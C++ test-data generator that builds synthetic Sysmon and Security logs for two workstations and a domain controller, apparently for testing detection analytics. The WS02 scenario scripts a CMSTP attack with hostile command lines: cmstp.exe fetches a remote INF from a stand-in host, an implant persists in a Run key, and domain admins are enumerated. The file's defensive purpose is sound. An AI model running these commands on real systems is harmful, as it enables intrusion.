#include "demo_scenario.hpp"

#include "host_logs.hpp"
#include "programs.hpp"
#include "random_source.hpp"
#include "windows_log_events.hpp"

namespace evtxcar::testdata {

namespace {

using namespace evtx_writer;

constexpr const char* domain_sid = "S-1-5-21-3623811015-3361044348-30300820";
constexpr const char* dc_address = "10.20.0.10";
constexpr const char* file_server_address = "10.20.0.15";
constexpr const char* dc_name = "DC01.corp.example.com";

filetime at(unsigned day, unsigned hour, unsigned minute, unsigned second, std::uint32_t fraction = 0) {
    return to_filetime({2026, 3, day, hour, minute, second, fraction});
}

account domain_account(const std::string& name, unsigned rid, std::uint64_t logon_id) {
    return {std::string(domain_sid) + "-" + std::to_string(rid), name, "CORP", logon_id};
}

const account local_system = {"S-1-5-18", "WS$", "CORP", 0x3E7};
const logon_session system_session = {};

// What the CAR catalogue's analytics find in the demo besides CMSTP.
const std::string catalogue_cmd = "CAR-2013-02-003:pseudocode";             // cmd.exe started
const std::string catalogue_host_discovery = "CAR-2016-03-001:pseudocode";  // ipconfig, whoami, net
const std::string catalogue_office_child = "CAR-2021-01-006:splunk";        // a program started by Office
const logon_session network_service_session = {"NT AUTHORITY\\NETWORK SERVICE", 0x3E4, 0, "System"};
constexpr const char* workstation_ipv6_address = "2001:db8:20:1::21";

// External sites the users visit: name, address.
struct site {
    const char* name;
    const char* address;
};
const std::vector<site> sites = {
    {"www.example.com", "203.0.113.80"},      {"news.example.org", "198.51.100.14"},
    {"docs.example.net", "192.0.2.61"},       {"cdn.example.net", "203.0.113.140"},
    {"portal.example.com", "198.51.100.201"}, {"mail.example.com", "2001:db8:4:12::25"},
};

// One host's day: the processes it runs, and what they do.
class host_day {
public:
    host_day(sysmon_host host, account user, std::uint64_t seed)
        : logs_(std::move(host)), user_(std::move(user)), random_(seed) {
        const sysmon_host& h = logs_.host();
        const filetime boot = at(9, 22, 14, 3);
        winlogon_ = program_process(h, boot, "winlogon", 612, "C:\\Windows\\System32\\winlogon.exe", "winlogon.exe",
                                    system_session);
        netsvcs_ = program_process(h, boot, "svchost netsvcs", 1264, "C:\\Windows\\System32\\svchost.exe",
                                   "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", system_session);
        dnscache_ = program_process(h, boot, "svchost dnscache", 1580, "C:\\Windows\\System32\\svchost.exe",
                                    "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                                    network_service_session);
        defender_ = program_process(
            h, boot, "defender", 3388,
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe",
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe\"", system_session);
        user_session_ = {"CORP\\" + user_.name, user_.logon_id, 1, "Medium"};
    }

    host_logs& logs() { return logs_; }
    const host_logs& logs() const { return logs_; }
    const std::string& computer() const { return logs_.host().computer; }
    const sysmon_process& explorer() const { return explorer_; }
    void set_explorer(sysmon_process explorer) { explorer_ = std::move(explorer); }
    const sysmon_process& dns_client() const { return dnscache_; }
    const logon_session& user_session() const { return user_session_; }
    random_source& random() { return random_; }

    std::uint32_t next_process_id() {
        next_pid_ += static_cast<std::uint32_t>(random_.between(1, 40)) * 4;
        return next_pid_;
    }

    // A process started by `parent` (Sysmon 1 and Security 4688); a process
    // create's detections (cmdline-url) are expected from both records.
    sysmon_process start(filetime t, const sysmon_process& parent, const std::string& image,
                         const std::string& command_line, const logon_session& session, const std::string& why,
                         std::vector<std::string> detections = {}) {
        const std::uint32_t pid = next_process_id();
        sysmon_process process = program_process(
            logs_.host(), t, image + std::to_string(pid) + std::to_string(t), pid, image, command_line, session,
            session.user == system_session.user ? "C:\\Windows\\system32\\" : "C:\\Users\\" + user_.name + "\\");
        // Both sensors log the process create: what its command line shows fires on both.
        logs_.sysmon(sysmon_process_create(logs_.host(), t, process, parent), why, detections);
        const account& subject = session.user == system_session.user ? local_system : user_;
        logs_.security(security_process_creation(computer(), t + 2 * ticks_per_millisecond, subject, pid, image,
                                                 parent.process_id, parent.image, command_line),
                       why + " (Security 4688)", std::move(detections));
        return process;
    }

    void stop(filetime t, const sysmon_process& process, const std::string& why) {
        logs_.sysmon(sysmon_process_terminate(logs_.host(), t, process), why);
    }

    void connect(filetime t, const sysmon_process& process, const std::string& remote_name,
                 const std::string& remote_address, std::uint16_t port, const std::string& port_name,
                 const std::string& why, std::vector<std::string> detections = {}) {
        network_connection c;
        c.initiated = true;
        const bool ipv6 = remote_address.find(':') != std::string::npos;
        c.source_ip = ipv6 ? workstation_ipv6_address : logs_.host().address;
        c.source_hostname = computer();
        c.source_port = static_cast<std::uint16_t>(random_.between(49152, 65000));
        c.destination_ip = remote_address;
        c.destination_hostname = remote_name;
        c.destination_port = port;
        c.destination_port_name = port_name;
        logs_.sysmon(sysmon_network_connection(logs_.host(), t, process, c), why, std::move(detections));
    }

    void resolve(filetime t, const sysmon_process& process, const std::string& name, const std::string& address,
                 const std::string& why) {
        const bool ipv6 = address.find(':') != std::string::npos;
        logs_.sysmon(sysmon_dns_query(logs_.host(), t, process, name, (ipv6 ? "" : "::ffff:") + address + ";"), why);
    }

    // The morning logon: winlogon, userinit, explorer and the tray programs.
    void user_logon(filetime t, std::uint32_t logon_type) {
        logon_details details;
        details.logon_type = logon_type;
        details.workstation = logs_.host().computer.substr(0, logs_.host().computer.find('.'));
        details.process_name = "C:\\Windows\\System32\\svchost.exe";
        details.process_id = 0x3F4;
        details.ip_address = "127.0.0.1";
        details.ip_port = "0";
        logs_.security(security_logon(computer(), t, local_system, user_, details),
                       "morning logon of " + user_.name + " (4624 type " + std::to_string(logon_type) + ")");
        const sysmon_process userinit =
            start(t + 1 * ticks_per_second, winlogon_, "C:\\Windows\\System32\\userinit.exe",
                  "C:\\Windows\\system32\\userinit.exe", user_session_, "logon: userinit starts");
        explorer_ = start(t + 2 * ticks_per_second, userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                          user_session_, "logon: explorer starts");
        stop(t + 9 * ticks_per_second, userinit, "logon: userinit exits");
        const sysmon_process onedrive =
            start(t + 14 * ticks_per_second, explorer_,
                  "C:\\Users\\" + user_.name + "\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                  "\"C:\\Users\\" + user_.name + "\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
                  user_session_, "logon: OneDrive starts");
        resolve(t + 16 * ticks_per_second, onedrive, "onedrive.example.com", "198.51.100.90",
                "OneDrive looks up its service");
        connect(t + 17 * ticks_per_second, onedrive, "onedrive.example.com", "198.51.100.90", 443, "https",
                "OneDrive syncs over HTTPS");
        logs_.sysmon(sysmon_registry_value(logs_.host(), t + 18 * ticks_per_second, explorer_,
                                           "HKU\\" + user_.sid +
                                               "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\"
                                               "{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA",
                                           "Binary Data"),
                     "explorer updates UserAssist");
    }

    void user_logoff(filetime t) {
        logs_.security(security_logoff(computer(), t, user_, 2), "evening logoff of " + user_.name + " (4634)");
        stop(t - 3 * ticks_per_second, explorer_, "logoff: explorer exits");
    }

    void browse(filetime t) {
        if (!browser_started_) {
            browser_ =
                start(t, explorer_, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window",
                      user_session_, "the user opens Edge");
            logs_.sysmon(sysmon_image_load(logs_.host(), t + 300 * ticks_per_millisecond, browser_,
                                           "C:\\Windows\\System32\\winhttp.dll", "Microsoft Windows"),
                         "Edge loads winhttp.dll");
            browser_started_ = true;
        }
        const site& s = random_.pick(sites);
        resolve(t + 1 * ticks_per_second, dnscache_, s.name, s.address, std::string("DNS client resolves ") + s.name);
        connect(t + 1 * ticks_per_second + 80 * ticks_per_millisecond, browser_, s.name, s.address, 443, "https",
                std::string("Edge connects to ") + s.name);
        if (random_.percent(30)) {
            const std::string file = "C:\\Users\\" + user_.name + "\\Downloads\\report-" +
                                     std::to_string(random_.between(1000, 9999)) + ".pdf";
            logs_.sysmon(sysmon_file_create(logs_.host(), t + 6 * ticks_per_second, browser_, file),
                         "Edge saves a download");
        }
    }

    void edit_document(filetime t) {
        const bool excel = random_.percent(40);
        const std::string document =
            "C:\\Users\\" + user_.name + "\\Documents\\" +
            (excel ? "budget-q1.xlsx" : "meeting-notes-" + std::to_string(random_.between(1, 30)) + ".docx");
        const std::string image = excel ? "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
                                        : "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        const sysmon_process office = start(t, explorer_, image, "\"" + image + "\" \"" + document + "\"",
                                            user_session_, "the user opens " + document);
        logs_.sysmon(
            sysmon_image_load(logs_.host(), t + 500 * ticks_per_millisecond, office,
                              "C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\AppVIsvSubsystems64.dll",
                              "Microsoft Corporation"),
            "Office loads its runtime");
        const std::size_t slash = document.find_last_of('\\');
        logs_.sysmon(sysmon_file_create(logs_.host(), t + 2 * ticks_per_second, office,
                                        document.substr(0, slash + 1) + "~$" + document.substr(slash + 3)),
                     "Office creates its owner file");
        stop(t + static_cast<filetime>(random_.between(300, 1500)) * ticks_per_second, office,
             "the user closes the document");
    }

    void domain_traffic(filetime t) {
        resolve(t, dnscache_, "_ldap._tcp.dc._msdcs.corp.example.com", dc_address,
                "DNS client finds the domain controller");
        connect(t + 40 * ticks_per_millisecond, netsvcs_, dc_name, dc_address, 389, "ldap", "group policy reads LDAP");
        if (random_.percent(50)) {
            connect(t + 1 * ticks_per_second, netsvcs_, dc_name, dc_address, 445, "microsoft-ds",
                    "group policy reads SYSVOL");
            logs_.sysmon(sysmon_pipe(logs_.host(), t + 1200 * ticks_per_millisecond, netsvcs_, false, "\\lsarpc"),
                         "a service connects to the LSA pipe");
        }
    }

    void file_share(filetime t) {
        connect(t, netsvcs_, "FS01.corp.example.com", file_server_address, 445, "microsoft-ds",
                "the user opens the department share");
        logs_.sysmon(sysmon_pipe(logs_.host(), t + 300 * ticks_per_millisecond, explorer_, false, "\\srvsvc"),
                     "explorer lists the shares");
    }

    void defender_update(filetime t) {
        resolve(t, dnscache_, "definitionupdates.example.com", "198.51.100.33", "Defender looks up its update server");
        connect(t + 200 * ticks_per_millisecond, defender_, "definitionupdates.example.com", "198.51.100.33", 443,
                "https", "Defender fetches signatures");
        logs_.sysmon(sysmon_file_create(
                         logs_.host(), t + 9 * ticks_per_second, defender_,
                         "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\Updates\\mpasdlta.vdm"),
                     "Defender writes new signatures");
    }

    void scheduled_task(filetime t) {
        const sysmon_process task =
            start(t, netsvcs_, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", system_session,
                  "the task scheduler runs a maintenance task");
        logs_.sysmon(
            sysmon_registry_value(logs_.host(), t + 2 * ticks_per_second, task,
                                  "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
                                  "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\\Index",
                                  "DWORD (0x00000003)"),
            "the task records its run");
        stop(t + 31 * ticks_per_second, task, "the maintenance task ends");
    }

    void powershell_pipe(filetime t) {
        const sysmon_process shell =
            start(t, explorer_, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", user_session_,
                  "the user opens PowerShell");
        logs_.sysmon(sysmon_pipe(logs_.host(), t + 700 * ticks_per_millisecond, shell, true,
                                 "\\PSHost.134177" + std::to_string(random_.between(10000000, 99999999)) + "." +
                                     std::to_string(shell.process_id) + ".DefaultAppDomain.powershell"),
                     "PowerShell creates its host pipe");
        const sysmon_process ipconfig = start(t + 20 * ticks_per_second, shell, "C:\\Windows\\System32\\ipconfig.exe",
                                              "\"C:\\Windows\\system32\\ipconfig.exe\" /all", user_session_,
                                              "the user checks the network settings", {catalogue_host_discovery});
        stop(t + 21 * ticks_per_second, ipconfig, "ipconfig exits");
        stop(t + 95 * ticks_per_second, shell, "the user closes PowerShell");
    }

    // One of the ordinary things a workstation does, picked at random.
    void ordinary_activity(filetime t) {
        switch (random_.below(10)) {
            case 0:
            case 1:
            case 2:
                browse(t);
                break;
            case 3:
            case 4:
                edit_document(t);
                break;
            case 5:
                domain_traffic(t);
                break;
            case 6:
                file_share(t);
                break;
            case 7:
                defender_update(t);
                break;
            case 8:
                scheduled_task(t);
                break;
            default:
                powershell_pipe(t);
                break;
        }
    }

    // Sysmon's and the system's own traffic before anyone logs on.
    void early_morning(filetime t) {
        domain_traffic(t);
        defender_update(t + 4 * 60 * ticks_per_second);
        scheduled_task(t + 11 * 60 * ticks_per_second);
        logon_details service_logon;
        service_logon.logon_type = 5;
        service_logon.logon_process = "Advapi  ";
        service_logon.process_name = "C:\\Windows\\System32\\services.exe";
        service_logon.process_id = 0x2AC;
        logs_.security(security_logon(computer(), t + 2 * ticks_per_second, local_system, local_system, service_logon),
                       "a service starts as SYSTEM (4624 type 5)");
        logs_.security(security_special_privileges(computer(), t + 2 * ticks_per_second + 1, local_system),
                       "SYSTEM gets its privileges (4672)");
    }

private:
    sysmon_process winlogon_, netsvcs_, dnscache_, defender_, explorer_, browser_;
    host_logs logs_;
    account user_;
    random_source random_;
    logon_session user_session_;
    std::uint32_t next_pid_ = 5200;
    bool browser_started_ = false;
};

// The ordinary working day of a workstation's user.
void working_day(host_day& day, unsigned logon_minute) {
    day.early_morning(at(10, 6, 48, 12));
    const filetime logon = at(10, 7, logon_minute, 41, 2204117);
    day.user_logon(logon, 2);
    filetime t = logon + 4 * 60 * ticks_per_second;
    const filetime evening = at(10, 17, 35, 0);
    while (t < evening) {
        day.ordinary_activity(t);
        t += static_cast<filetime>(day.random().between(6 * 60, 13 * 60)) * ticks_per_second +
             day.random().below(ticks_per_second);
    }
    day.user_logoff(evening + 17 * ticks_per_second);
    day.scheduled_task(at(11, 2, 3, 9, 4410000));
    day.defender_update(at(11, 3, 30, 44, 1093000));
}

sysmon_host host(const char* computer, const char* address, sysmon_schema schema, std::uint32_t pid,
                 std::uint32_t prefix) {
    return {computer, address, schema, pid, prefix};
}

// WS01: alice's ordinary day, with IT installing the VPN profile from a
// local INF (cmstp.exe, but nothing remote: no detection).
host_day ws01_day() {
    host_day day(host("WS01.corp.example.com", "10.20.1.21", sysmon_schema::v4_90, 2876, 0x3A6F1C20),
                 domain_account("alice", 1107, 0x1C4F2A1), 0x57530131);
    working_day(day, 52);
    const filetime install = at(10, 9, 41, 7, 5530000);
    const logon_session elevated = {"CORP\\alice", 0x1C4F2B7, 1, "High"};
    const sysmon_process installer =
        day.start(install, day.explorer(), "C:\\Windows\\System32\\cmd.exe",
                  "\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\Program Files\\CorpVPN\\install-profile.cmd\"", elevated,
                  "IT's VPN installer script runs (local, benign)", {catalogue_cmd});
    const sysmon_process cmstp =
        day.start(install + 900 * ticks_per_millisecond, installer, "C:\\Windows\\System32\\cmstp.exe",
                  "C:\\Windows\\system32\\cmstp.exe /s /su \"C:\\Program Files\\CorpVPN\\corpvpn.inf\"", elevated,
                  "cmstp.exe installs the VPN profile from a local INF: no detection");
    day.logs().sysmon(
        sysmon_registry_value(
            day.logs().host(), install + 2 * ticks_per_second, cmstp,
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32.EXE\\ProfileInstallPath",
            "C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm"),
        "cmstp.exe records the profile path (benign install)");
    day.stop(install + 4 * ticks_per_second, cmstp, "cmstp.exe exits");
    day.stop(install + 5 * ticks_per_second, installer, "the installer script ends");
    return day;
}

// WS02: jdoe opens a macro document from mail; Word starts cmd.exe, which
// starts cmstp.exe with a remote INF (T1218.003).
host_day ws02_day() {
    host_day day(host("WS02.corp.example.com", "10.20.1.57", sysmon_schema::v4_50, 3104, 0x7B21E4D9),
                 domain_account("jdoe", 1112, 0x2A81D09), 0x57530232);
    working_day(day, 58);
    const sysmon_host& h = day.logs().host();
    const logon_session& session = day.user_session();

    const filetime mail = at(10, 13, 49, 2, 7710000);
    const sysmon_process outlook = day.start(
        mail, day.explorer(), "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", session, "jdoe opens Outlook");
    day.connect(mail + 2 * ticks_per_second, outlook, "mail.example.com", "2001:db8:4:12::25", 443, "https",
                "Outlook syncs mail over IPv6");

    const filetime t = at(10, 14, 5, 12, 3318406);
    const std::string cache =
        "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1H7ZK2B\\";
    const std::string document = cache + "Invoice_2026-0311.docm";
    const std::string inf_url = "https://cdn.example.com/vpn/corp-profile.inf";
    day.logs().sysmon(sysmon_file_create(h, t, outlook, document), "attack: Outlook saves the mail attachment");
    const std::string word_image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    const sysmon_process word = day.start(t + 8 * ticks_per_second, outlook, word_image,
                                          "\"" + word_image + "\" /n \"" + document + "\" /o \"\"", session,
                                          "attack: jdoe opens the invoice document", {catalogue_office_child});
    const sysmon_process shell =
        day.start(t + 19 * ticks_per_second, word, "C:\\Windows\\System32\\cmd.exe",
                  "C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\System32\\cmstp.exe /ni /s " + inf_url, session,
                  "attack: the document's macro starts cmd.exe", {catalogue_cmd, catalogue_office_child});
    const filetime launch = t + 19 * ticks_per_second + 211 * ticks_per_millisecond;
    const sysmon_process cmstp = day.start(
        launch, shell, "C:\\Windows\\System32\\cmstp.exe", "C:\\Windows\\System32\\cmstp.exe  /ni /s " + inf_url,
        session, "attack: cmstp.exe is started with a remote INF URL", {detection_cmdline_url});
    day.resolve(launch + 640 * ticks_per_millisecond, day.dns_client(), "cdn.example.com", "203.0.113.7",
                "attack: the INF's host is resolved");
    day.connect(launch + 702 * ticks_per_millisecond, cmstp, "cdn.example.com", "203.0.113.7", 443, "https",
                "attack: cmstp.exe downloads the INF from a public address", {detection_remote});
    day.logs().sysmon(sysmon_image_load(h, launch + 1500 * ticks_per_millisecond, cmstp,
                                        "C:\\Windows\\System32\\scrobj.dll", "Microsoft Windows"),
                      "attack: cmstp.exe loads the scriptlet runtime");
    day.connect(launch + 1710 * ticks_per_millisecond, cmstp, "cdn.example.com", "203.0.113.7", 443, "https",
                "attack: cmstp.exe fetches the scriptlet named in the INF", {detection_remote});
    day.logs().sysmon(
        sysmon_registry_value(
            h, launch + 2 * ticks_per_second, cmstp,
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32.EXE\\ProfileInstallPath",
            "C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm"),
        "attack: cmstp.exe records a profile path");
    const std::string dropped = "C:\\Users\\Public\\Libraries\\vpnupdate.exe";
    day.logs().sysmon(sysmon_file_create(h, launch + 3 * ticks_per_second, cmstp, dropped),
                      "attack: cmstp.exe drops vpnupdate.exe");
    const sysmon_process implant = day.start(launch + 4 * ticks_per_second, cmstp, dropped, "\"" + dropped + "\" -q",
                                             session, "attack: cmstp.exe starts the dropped program");
    day.logs().sysmon(sysmon_registry_value(h, launch + 5 * ticks_per_second, implant,
                                            "HKU\\" + std::string(domain_sid) +
                                                "-1112\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\VpnUpdate",
                                            dropped + " -q"),
                      "attack: the implant persists in the Run key");
    day.resolve(launch + 6 * ticks_per_second, day.dns_client(), "update.example.com", "198.51.100.23",
                "attack: the implant resolves its server");
    day.connect(launch + 6 * ticks_per_second + 90 * ticks_per_millisecond, implant, "update.example.com",
                "198.51.100.23", 8443, "", "attack: the implant calls out (not cmstp.exe: no detection)");
    const sysmon_process whoami =
        day.start(launch + 47 * ticks_per_second, implant, "C:\\Windows\\System32\\whoami.exe", "whoami /all", session,
                  "attack: the implant runs whoami", {catalogue_host_discovery});
    day.stop(launch + 47 * ticks_per_second + 310 * ticks_per_millisecond, whoami, "whoami exits");
    const sysmon_process net =
        day.start(launch + 93 * ticks_per_second, implant, "C:\\Windows\\System32\\net.exe",
                  "net group \"Domain Admins\" /domain", session, "attack: the implant lists the domain admins",
                  {catalogue_host_discovery, "CAR-2020-11-006:pseudocode"});
    day.connect(launch + 93 * ticks_per_second + 150 * ticks_per_millisecond, net, dc_name, dc_address, 445,
                "microsoft-ds", "attack: net.exe asks the domain controller");
    day.stop(launch + 94 * ticks_per_second, net, "net.exe exits");
    day.stop(launch + 9 * ticks_per_second, cmstp, "attack: cmstp.exe exits");
    day.stop(launch + 10 * ticks_per_second, shell, "attack: cmd.exe exits");
    return day;
}

// DC01: network logons from the workstations, an administrator's remote
// session, and service changes in the System log.
host_day dc01_day() {
    host_day day(host(dc_name, dc_address, sysmon_schema::v4_22, 1980, 0x15C3A8F2),
                 domain_account("adm-bob", 1120, 0x5D2E0C1), 0x44433031);
    const sysmon_host& h = day.logs().host();
    const sysmon_process lsass = program_process(h, at(9, 22, 10, 0), "lsass", 712, "C:\\Windows\\System32\\lsass.exe",
                                                 "C:\\Windows\\system32\\lsass.exe", {});
    const sysmon_process dns_server = program_process(
        h, at(9, 22, 10, 0), "dns", 2412, "C:\\Windows\\System32\\dns.exe", "C:\\Windows\\system32\\dns.exe", {});
    day.logs().system(event_log_service(day.computer(), at(10, 6, 40, 2, 1180000), false),
                      "the event log service stops for patching");
    day.logs().system(event_log_service(day.computer(), at(10, 6, 43, 51, 6610000), true),
                      "the event log service starts");

    struct visitor {
        const char* address;
        account user;
    };
    const std::vector<visitor> visitors = {
        {"10.20.1.21", domain_account("alice", 1107, 0)},
        {"10.20.1.57", domain_account("jdoe", 1112, 0)},
        {"10.20.1.21", {"S-1-5-21-3623811015-3361044348-30300820-1201", "WS01$", "CORP", 0}},
        {"10.20.1.57", {"S-1-5-21-3623811015-3361044348-30300820-1202", "WS02$", "CORP", 0}}};
    const std::vector<const char*> services = {"Windows Update", "Background Intelligent Transfer Service",
                                               "WinHTTP Web Proxy Auto-Discovery Service", "Windows Modules Installer"};
    filetime t = at(10, 6, 50, 3, 4410000);
    std::uint64_t logon_id = 0x7A3C100;
    while (t < at(11, 6, 0, 0)) {
        const visitor& v = day.random().pick(visitors);
        account target = v.user;
        target.logon_id = logon_id += day.random().between(0x40, 0x400);
        logon_details network;
        network.logon_type = 3;
        network.logon_process = "Kerberos";
        network.authentication_package = "Kerberos";
        network.process_name = "-";
        network.process_id = 0;
        network.ip_address = v.address;
        network.ip_port = std::to_string(day.random().between(49152, 65000));
        day.logs().security(security_logon(day.computer(), t, {"S-1-0-0", "-", "-", 0}, target, network),
                            target.name + " logs on over the network from " + v.address + " (4624 type 3)");
        day.logs().security(security_logoff(day.computer(), t + 2 * ticks_per_second, target, 3),
                            target.name + "'s network logon ends (4634)");
        network_connection c;
        c.initiated = false;
        c.source_ip = v.address;
        c.source_hostname = std::string(v.address == std::string("10.20.1.21") ? "WS01" : "WS02") + ".corp.example.com";
        c.source_port = static_cast<std::uint16_t>(day.random().between(49152, 65000));
        c.destination_ip = dc_address;
        c.destination_hostname = dc_name;
        c.destination_port = 88;
        c.destination_port_name = "kerberos";
        day.logs().sysmon(sysmon_network_connection(h, t - 20 * ticks_per_millisecond, lsass, c),
                          "a workstation asks the KDC for a ticket (inbound)");
        if (day.random().percent(45)) {
            day.logs().sysmon(sysmon_dns_query(h, t + 400 * ticks_per_millisecond, dns_server, "www.example.com",
                                               "::ffff:203.0.113.80;"),
                              "the DNS server forwards a query");
            network_connection forward;
            forward.protocol = "udp";
            forward.source_ip = dc_address;
            forward.source_hostname = dc_name;
            forward.source_port = static_cast<std::uint16_t>(day.random().between(49152, 65000));
            forward.destination_ip = "192.0.2.53";
            forward.destination_hostname = "resolver.example.net";
            forward.destination_port = 53;
            forward.destination_port_name = "domain";
            day.logs().sysmon(sysmon_network_connection(h, t + 410 * ticks_per_millisecond, dns_server, forward),
                              "the DNS server asks the upstream resolver");
        }
        if (day.random().percent(12)) {
            const char* service = day.random().pick(services);
            day.logs().system(service_state_change(day.computer(), t + 5 * ticks_per_second, service, "running"),
                              std::string(service) + " starts (7036)");
            day.logs().system(service_state_change(day.computer(), t + 65 * ticks_per_second, service, "stopped"),
                              std::string(service) + " stops (7036)");
        }
        t += static_cast<filetime>(day.random().between(8 * 60, 16 * 60)) * ticks_per_second +
             day.random().below(ticks_per_second);
    }

    // The administrator's remote session.
    const filetime rdp = at(10, 10, 12, 30, 8870000);
    logon_details remote;
    remote.logon_type = 10;
    remote.workstation = "WS01";
    remote.process_name = "C:\\Windows\\System32\\svchost.exe";
    remote.process_id = 0x4C8;
    remote.ip_address = "10.20.1.21";
    remote.ip_port = "0";
    remote.elevated = true;
    account admin = domain_account("adm-bob", 1120, 0x5D2E0C1);
    day.logs().security(security_logon(day.computer(), rdp, local_system, admin, remote),
                        "adm-bob logs on over Remote Desktop (4624 type 10)", {"CAR-2016-04-005:pseudocode"});
    day.logs().security(security_special_privileges(day.computer(), rdp + 1, admin),
                        "adm-bob gets admin privileges (4672)");
    const logon_session session = {"CORP\\adm-bob", 0x5D2E0C1, 2, "High"};
    const sysmon_process userinit = program_process(h, rdp, "rdp userinit", 6120, "C:\\Windows\\System32\\userinit.exe",
                                                    "C:\\Windows\\system32\\userinit.exe", session);
    day.set_explorer(day.start(rdp + 3 * ticks_per_second, userinit, "C:\\Windows\\explorer.exe",
                               "C:\\Windows\\Explorer.EXE", session, "adm-bob's desktop starts"));
    const sysmon_process shell = day.start(rdp + 41 * ticks_per_second, day.explorer(),
                                           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                           "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoExit "
                                           "-Command \"Get-ADUser -Filter 'Enabled -eq $false' | Select-Object Name\"",
                                           session, "adm-bob reviews disabled accounts");
    day.logs().sysmon(
        sysmon_pipe(h, rdp + 42 * ticks_per_second, shell, true,
                    "\\PSHost.134177691530416127." + std::to_string(shell.process_id) + ".DefaultAppDomain.powershell"),
        "PowerShell creates its host pipe");
    const sysmon_process console =
        day.start(rdp + 160 * ticks_per_second, day.explorer(), "C:\\Windows\\System32\\mmc.exe",
                  "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"", session,
                  "adm-bob opens Active Directory Users and Computers");
    day.logs().sysmon(sysmon_registry_value(h, rdp + 170 * ticks_per_second, console,
                                            "HKU\\S-1-5-21-3623811015-3361044348-30300820-1120\\Software\\Microsoft\\"
                                            "Microsoft Management Console\\Recent File List\\File1",
                                            "C:\\Windows\\system32\\dsa.msc"),
                      "MMC remembers the console");
    day.stop(rdp + 900 * ticks_per_second, console, "adm-bob closes the console");
    day.stop(rdp + 910 * ticks_per_second, shell, "adm-bob closes PowerShell");
    day.logs().system(service_installed(day.computer(), rdp + 1200 * ticks_per_second, "ExampleBackupAgent",
                                        "\"C:\\Program Files\\Example\\Backup\\agent.exe\" --service", "LocalSystem"),
                      "adm-bob installs the backup agent service (7045)",
                      {"CAR-2013-09-005:logpoint"});  // the collection's only install: rare (fewer than 5)
    day.logs().security(security_logoff(day.computer(), rdp + 1500 * ticks_per_second, admin, 10),
                        "adm-bob logs off (4634)");
    day.scheduled_task(at(11, 1, 0, 12, 9050000));
    day.defender_update(at(11, 4, 12, 5, 3300000));
    return day;
}

}  // namespace

std::vector<scenario_file> demo_files() {
    const host_day ws01 = ws01_day();
    const host_day ws02 = ws02_day();
    const host_day dc01 = dc01_day();
    return {
        log_file("demo/WS01/Microsoft-Windows-Sysmon%4Operational.evtx",
                 "workstation day, Sysmon schema 4.90 (ParentUser, User fields); a benign cmstp.exe with a local INF",
                 ws01.logs().sysmon_records(), 184201),
        log_file("demo/WS01/Security.evtx", "workstation day: logons, 4688 process creation",
                 ws01.logs().security_records(), 52310),
        log_file("demo/WS02/Microsoft-Windows-Sysmon%4Operational.evtx",
                 "workstation day, Sysmon schema 4.50; CMSTP attack (T1218.003) at 14:05 UTC",
                 ws02.logs().sysmon_records(), 97420),
        log_file("demo/WS02/Security.evtx", "workstation day with the attack's 4688 process creations",
                 ws02.logs().security_records(), 33871),
        log_file("demo/DC01/Microsoft-Windows-Sysmon%4Operational.evtx",
                 "domain controller day, Sysmon schema 4.22 (no OriginalFileName)", dc01.logs().sysmon_records(),
                 402117),
        log_file("demo/DC01/Security.evtx", "network logons from the workstations, an RDP admin session",
                 dc01.logs().security_records(), 1180233),
        log_file("demo/DC01/System.evtx",
                 "service changes (7036, 7045) and classic event log service events (6005, 6006)",
                 dc01.logs().system_records(), 23018),
    };
}

}  // namespace evtxcar::testdata
